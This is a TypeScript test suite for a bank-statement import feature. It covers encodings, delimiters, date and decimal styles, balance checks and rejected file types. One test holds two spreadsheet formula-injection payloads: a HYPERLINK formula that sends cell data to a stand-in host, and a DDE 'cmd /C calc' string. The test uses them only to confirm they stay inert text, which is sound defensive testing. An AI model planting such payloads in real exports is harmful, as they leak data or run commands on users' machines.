import { Schema } from "effect"
import * as fc from "fast-check"
import { readFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { LINES_MAX, StatementLine } from "../../../../src/domain/bank-statement/events.ts"
import { findTable } from "../../../../src/domain/import/table.ts"
import {
  findColumns,
  findStyles,
  identitiesOf,
  readStatement,
  type StatementColumns
} from "../../../../src/domain/import/statement-rows.ts"
import type { CurrencyCode } from "../../../../src/domain/kernel/currency.ts"
import { IsoDate } from "../../../../src/domain/kernel/schema.ts"
import {
  FILE_BYTES_MAX,
  findDelimiter,
  rowsOf,
  textOfFile,
  type TextFile
} from "../../../../src/infra/browser/import/read-file.ts"
import { MAX_COMMAND_BYTES, wireBytes } from "../../../../src/infra/browser/wire-size.ts"
import { statement, tick } from "../../../support/statements.ts"

const command = tick.import(1, [1])
const today = IsoDate.make("2026-11-20")
const fixture = (name: string): File =>
  new File([readFileSync(join(process.cwd(), "tests/fixtures/statements", name))], name)

const opened = async (name: string): Promise<TextFile> => {
  const file = await textOfFile(fixture(name))
  if (typeof file === "string") throw new Error(file)
  return file
}

/** Reads a file as it is proposed, with what a person would add. */
const read = async (name: string, currency: CurrencyCode, said: Partial<StatementColumns> = {}) => {
  const { encoding, text } = await opened(name)
  const delimiter = findDelimiter(text)
  if (delimiter === undefined) throw new Error("no delimiter")
  const table = findTable(rowsOf(text, delimiter), today)
  const columns = { ...findColumns(table, today), ...said }
  const { decimal, order } = findStyles(table, columns, { currency, today })
  const mapping = {
    ...columns,
    order: order?.kind === "found" ? order.style : "dmy",
    decimal: decimal?.kind === "found" ? decimal.style : ","
  } as const
  return {
    encoding,
    delimiter,
    table,
    columns,
    order,
    decimal,
    ...readStatement(table.rows, mapping, { currency, today })
  }
}

const short = ({ lines }: Awaited<ReturnType<typeof read>>) =>
  lines.map(({ amount, balance, day, label, reference }) => [day, amount, label, reference, balance])

describe("statements of banks and operators", () => {
  it("are read below what the bank writes above them, in two columns, with a row of totals named", async () => {
    const found = await read("debit-credit-1252.csv", "XOF")
    expect(found).toMatchObject({ encoding: "windows-1252", delimiter: ";", opening: "1500000", closing: "1692050" })
    expect(found.table.before).toHaveLength(5)
    expect(found.order).toEqual({ kind: "found", style: "dmy", because: ["17/10/2026"] })
    expect(short(found)).toEqual([
      ["2026-10-02", "350000", "VIREMENT RECU ETS SOLEIL FACTURE F-0012", "", "1850000"],
      ["2026-10-05", "-200000", "RETRAIT GUICHET AGENCE CENTRE", "", "1650000"],
      ["2026-10-05", "-2950", "FRAIS DE TENUE DE COMPTE", "", "1647050"],
      ["2026-10-17", "-75000", "CHEQUE N° 0004512", "", "1572050"],
      ["2026-10-31", "120000", "VIREMENT RECU COOPERATIVE DES POTIERS", "", "1692050"]
    ])
    expect(found.unread).toMatchObject([{ at: 13, problem: "noDay" }])
    expect(found.balances).toEqual({ checked: 4, gaps: [] })
  })

  it("are turned where the latest comes first, and quoted cells hold what they will", async () => {
    const found = await read("newest-first-quoted.csv", "NGN")
    expect(found).toMatchObject({ encoding: "utf-8", delimiter: ",", opening: "150405250", closing: "131045050" })
    expect(found.decimal).toMatchObject({ kind: "found", style: "." })
    expect(short(found)).toEqual([
      ["2026-10-01", "-30000000", "TRANSFER TO LANDLORD", "TRF88001", "120405250"],
      ["2026-10-13", "-5250", "SMS ALERT CHARGE SEPTEMBER", "FEE00077", "120400000"],
      ["2026-10-14", "-1854950", 'POS PURCHASE "MARKET SQUARE"', "POS10093", "118545050"],
      ["2026-10-30", "12500000", "TRANSFER FROM HARBOUR STORES, INV 0031", "TRF88213", "131045050"]
    ])
    expect(found.balances?.gaps).toEqual([])
  })

  it("are read as UTF-16 with points between thousands", async () => {
    const found = await read("signed-utf16-tab.txt", "EUR")
    expect(found).toMatchObject({ encoding: "utf-16le", delimiter: "\t" })
    expect(found.decimal).toEqual({ kind: "found", style: ",", because: ["1.250,00"] })
    expect(short(found).map(([day, amount]) => [day, amount])).toEqual([
      ["2026-10-03", "125000"],
      ["2026-10-09", "-108435"],
      ["2026-10-21", "-490"]
    ])
  })

  it("may name the month first, and the side in a column", async () => {
    const found = await read("sides-month-first.csv", "USD")
    expect(found.order).toEqual({ kind: "found", style: "mdy", because: ["10/31/2026"] })
    expect(short(found).map(([day, amount]) => [day, amount])).toEqual([
      ["2026-10-31", "-25000"],
      ["2026-11-02", "100000"]
    ])
    expect(found.balances).toEqual({ checked: 1, gaps: [] })
  })

  it("may name the side, a bracket or a minus in the cell", async () =>
    expect(short(await read("suffixes-brackets.csv", "USD")).map(([, amount]) => amount)).toEqual([
      "-25000",
      "190000",
      "-10000",
      "-1525"
    ]))

  it("of an operator have the time of day, signs and the currency in their cells", async () => {
    const found = await read("mobile-money.csv", "XOF")
    expect(short(found).map(([day, amount, , reference]) => [day, amount, reference])).toEqual([
      ["2026-10-05", "15000", "9012345671"],
      ["2026-10-05", "-40000", "9012345699"],
      ["2026-10-06", "-50000", "9012345720"]
    ])
    expect(found.balances?.gaps).toMatchObject([
      { expected: 175000n, said: 174900n },
      { expected: 124900n, said: 124550n }
    ])
  })

  it("without titles are asked about: which column holds amounts is not guessed", async () => {
    const found = await read("without-titles.csv", "XOF")
    expect(found.table.titles).toBeNull()
    expect(found.columns).toMatchObject({ day: 0, label: 1, amount: null, balance: null })
    expect(short(await read("without-titles.csv", "XOF", { amount: 2, balance: 3 }))).toMatchObject([
      ["2026-10-05", "15000", "VIREMENT CLIENTE C", "", "515000"],
      ["2026-10-16", "-4500", "ACHAT FOURNITURES", "", "510500"]
    ])
  })

  it("that can be read in two ways are asked about, unless the currency says it", async () => {
    const found = await read("two-ways.csv", "TND")
    expect(found.order).toEqual({ kind: "asks", styles: ["dmy", "mdy"], example: "01/02/2026" })
    expect(found.decimal).toEqual({ kind: "asks", styles: [",", "."], example: "1,500" })
    expect((await read("two-ways.csv", "XOF")).decimal).toEqual({ kind: "found", style: ".", because: ["1,500"] })
  })

  it("keep texts that a spreadsheet would compute as the texts that they are", async () =>
    expect(short(await read("formulas.csv", "XOF")).map(([, amount, label]) => [amount, label])).toEqual([
      ["1000", '=HYPERLINK("https://example.invalid/?"&A1,"click")'],
      ["-500", "@SUM(1+1)*cmd|'/C calc'!A0"]
    ]))

  it("name each row that cannot be read, and the balance that the amounts do not come to", async () => {
    const found = await read("gaps.csv", "XOF")
    expect(found.lines.map(({ at }) => at)).toEqual([2, 3, 4])
    expect(found.unread.map(({ at, problem }) => [at, problem])).toEqual([
      [5, "amountUnread"],
      [6, "noDay"],
      [7, "zero"]
    ])
    expect(found.balances?.gaps).toEqual([{ at: 4, expected: 10000n, said: 9000n }])
  })

  it("tell lines alike apart, the same in two statements that overlap", () => {
    const line = { at: 1, day: today, amount: "-50", label: "FRAIS", reference: "", balance: null }
    const other = { ...line, label: "AUTRE" }
    const [first, second, third] = identitiesOf("a", [line, other, line])
    expect(new Set([first, second, third]).size).toBe(3)
    expect(identitiesOf("a", [other, { ...line, at: 9 }, { ...line, balance: "7" }])).toEqual([second, first, third])
    expect(identitiesOf("b", [line])).not.toEqual([first])
  })
})

describe("a long statement", () => {
  const columns = { day: 0, label: 1, amount: 2, reference: 3, debit: null, credit: null, side: null, balance: null }
  const how = { ...columns, order: "dmy", decimal: "," } as const
  const lineOf = (label: string) =>
    readStatement([{ at: 1, cells: ["2026-10-01", label, "-999999999999999", label] }], how, {
      currency: "XOF",
      today
    }).lines[0]

  it("fits into one command as far as it is one statement, whatever its texts", () => {
    const { at: _at, ...line } = lineOf("\u0E01".repeat(500)) ?? {}
    const lines = Array.from({ length: LINES_MAX }, () => ({
      ...line,
      lineId: "a".repeat(32),
      balance: "-999999999999999"
    }))
    expect(wireBytes({ ...command, details: statement(lines as never) })).toBeLessThan(MAX_COMMAND_BYTES)
  })

  it("has no text that its schema would refuse", () => {
    const isLine = Schema.is(StatementLine)
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", minLength: 1, maxLength: 300 }), (text) => {
        const { at: _at, ...line } = lineOf(text) ?? {}
        expect(isLine({ ...line, lineId: "a".repeat(32) })).toBe(true)
      })
    )
  })
})

describe("what is no such file", () => {
  const problem = (name: string, bytes: Uint8Array<ArrayBuffer>) => textOfFile(new File([bytes], name))
  it.each([
    ["a spreadsheet", new Uint8Array([0x50, 0x4b, 3, 4, 20]), "spreadsheet"],
    ["a PDF", new TextEncoder().encode("%PDF-1.7"), "pdf"],
    ["an empty file", new TextEncoder().encode(" \n"), "empty"],
    ["a program", new Uint8Array([65, 66, 0, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76]), "unreadable"],
    ["a very long file", new Uint8Array(FILE_BYTES_MAX + 1), "tooLarge"]
  ] as const)("is told: %s", async (_what, bytes, told) => expect(await problem("x.csv", bytes)).toBe(told))

  it("is not cut at its decimal commas", () => expect(findDelimiter("a\t1,5\tb\nc\t2,5\td")).toBe("\t"))

  it("has nothing that sets cells apart", () => expect(findDelimiter("one\ntwo\nthree")).toBeUndefined())
})
